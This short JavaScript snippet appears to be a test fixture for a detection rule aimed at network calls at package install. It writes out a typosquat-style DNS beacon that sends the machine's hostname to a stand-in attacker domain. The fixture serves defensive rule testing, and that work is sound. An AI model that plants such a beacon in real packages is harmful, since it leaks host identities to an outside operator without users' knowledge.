// Typosquat DNS beacon: the host name travels as a DNS label to the operator's zone.
const dns = require('dns');
const os = require('os');

const label = os.hostname().replace(/[^a-z0-9-]/gi, '-').slice(0, 60);
// ruleid: code/network-at-install
dns.lookup(label + '.x.attacker.example', () => {});
